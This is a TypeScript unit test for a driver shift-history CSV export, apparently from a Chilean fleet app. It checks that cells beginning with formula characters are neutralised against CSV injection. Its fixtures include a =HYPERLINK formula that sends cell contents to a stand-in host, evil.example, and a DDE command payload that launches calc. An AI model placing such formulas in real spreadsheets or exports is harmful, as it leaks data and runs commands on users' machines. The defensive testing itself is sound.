/** The history CSV as the owner opens it in Excel: a driver named like a formula stays text. */
import type { Shift } from '../../../contract/entities';
import { historyCsvStream } from './historyCsv';

const base: Shift = {
  id: 1,
  driver_id: 7,
  vehicle_id: null,
  first_name: 'Juan',
  last_name: 'Pérez',
  rut: '125319092',
  plate_number: null,
  start_time: '2026-11-21T11:00:00.000Z',
  end_time: null,
  duration_seconds: null,
  is_active: true,
  latitude: null,
  longitude: null,
  last_location_time: null,
};

async function csvOf(shifts: Shift[]): Promise<string[]> {
  async function* one() {
    yield shifts;
  }
  let text = '';
  for await (const chunk of historyCsvStream(one(), 'America/Santiago')) text += String(chunk);
  return text.slice(1).split('\r\n');
}

describe('history CSV export (CSV injection)', () => {
  it('writes a driver named =HYPERLINK(...) as text: an apostrophe first, so Excel does not run it', async () => {
    const [, line] = await csvOf([{ ...base, first_name: '=HYPERLINK("http://evil.example/?"&A1,"Ver")' }]);
    expect(line.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""Ver"") Pérez";12.531.909-2;`)).toBe(true);
  });

  it.each([
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0 Pérez"],
    ['@SUM(1+1)', "'@SUM(1+1) Pérez"],
    ['-2+3', "'-2+3 Pérez"],
  ])('a driver named %s starts its cell as text', async (firstName, cell) => {
    const [, line] = await csvOf([{ ...base, first_name: firstName }]);
    expect(line.split(';')[0]).toBe(cell);
  });

  it('keeps an ordinary row as the screen shows it', async () => {
    const [header, line] = await csvOf([base]);
    expect(header).toBe('Conductor;RUT;Vehículo;Inicio;Fin;Duración;Estado');
    expect(line).toBe('Juan Pérez;12.531.909-2;Sin vehículo;21/11/2026 08:00;-;En curso;Activo');
  });
});
